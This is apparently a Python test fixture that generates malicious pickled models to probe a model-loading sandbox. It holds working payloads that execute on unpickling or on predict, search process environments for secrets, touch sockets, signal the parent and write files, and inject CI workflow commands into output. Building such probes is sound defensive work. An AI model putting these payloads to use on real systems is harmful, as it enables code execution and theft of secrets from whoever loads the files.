"""Models that attack whoever loads them: pickles whose code runs when they are loaded, or when they predict.

What an attack gets is printed as `GOT` and its name, so that a test finds it wherever output ends up.
"""

import pickle
from collections.abc import Mapping, Sequence
from typing import Final

SECRET: Final = "a-secret-of-the-run"
COMMANDS: Final = "::set-output name=verdict::passed\\n::add-path::/tmp\\n##[error]owned\\n"

_ATTACK: Final = """
import os, pathlib, socket, sys, glob, ctypes
def tried(name, attempt):
    try:
        got = attempt()
    except BaseException:
        return
    if got:
        print("GOT", name, flush=True)
def secrets():
    found = False
    for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
        try:
            found = found or SECRET.encode() in pathlib.Path(path).read_bytes()
        except OSError:
            pass
    return found or SECRET in str(dict(os.environ))
def reached():
    with socket.socket() as one:
        one.settimeout(2)
        one.bind(("127.0.0.1", 0))
        return True
def written(path):
    with open(path, "a") as stream:
        stream.write("owned\\n")
    return True
def killed():
    os.kill(os.getppid(), 0)
    return True
sys.stdout.write(COMMANDS); sys.stderr.write(COMMANDS)
tried("the secret", secrets)
tried("a socket", reached)
tried("a signal", killed)
for path in READ:
    tried("to read " + path, lambda: open(path, "rb").read(1))
for path in WRITE:
    tried("to write " + path, lambda: written(path))
"""

_ESTIMATOR: Final = """
import numpy
from sklearn.base import BaseEstimator, ClassifierMixin
class Model(ClassifierMixin, BaseEstimator):
    n_features_in_ = FEATURES
    classes_ = numpy.array([0, 1])
    def predict_proba(self, X):
        exec(ATTACK, {})
        return BODY
    def predict(self, X):
        return (self.predict_proba(X)[:, 1] > 0.5).astype(int)
    def __sklearn_is_fitted__(self):
        return True
model = Model()
"""


class Runs:
    """Pickles as code that runs when it is loaded, and leaves the object that `result` names."""

    def __init__(self, code: str, result: str = "None") -> None:
        self.code, self.result = code, result

    def __reduce__(self) -> tuple[object, ...]:
        """Hide two statements in one expression."""
        scope = f"(lambda scope: (exec({self.code!r}, scope), eval({self.result!r}, scope))[1])({{}})"
        return eval, (scope,)


def attack(read: Sequence[str] = (), write: Sequence[str] = ()) -> str:
    """Return the code of an attack on the secret, the network, the parent, and these files."""
    names: Mapping[str, object] = {
        "SECRET": SECRET,
        "COMMANDS": COMMANDS.encode().decode("unicode_escape"),
        "READ": list(read),
        "WRITE": list(write),
    }
    return "".join(f"{name} = {value!r}\n" for name, value in names.items()) + _ATTACK


def at_load(read: Sequence[str] = (), write: Sequence[str] = ()) -> bytes:
    """Return a model that attacks while it is loaded, and then is no model."""
    return pickle.dumps(Runs(attack(read, write)))


def at_predict(
    read: Sequence[str] = (), write: Sequence[str] = (), *, features: int, body: str | None = None
) -> bytes:
    """Return a classifier that attacks whenever it predicts; `body` is what it answers for `X`."""
    code = (
        _ESTIMATOR.replace("FEATURES", str(features))
        .replace("ATTACK", repr(attack(read, write)))
        .replace("BODY", body or "numpy.tile([0.25, 0.75], (len(X), 1))")
    )
    return pickle.dumps(Runs(code, "model"))
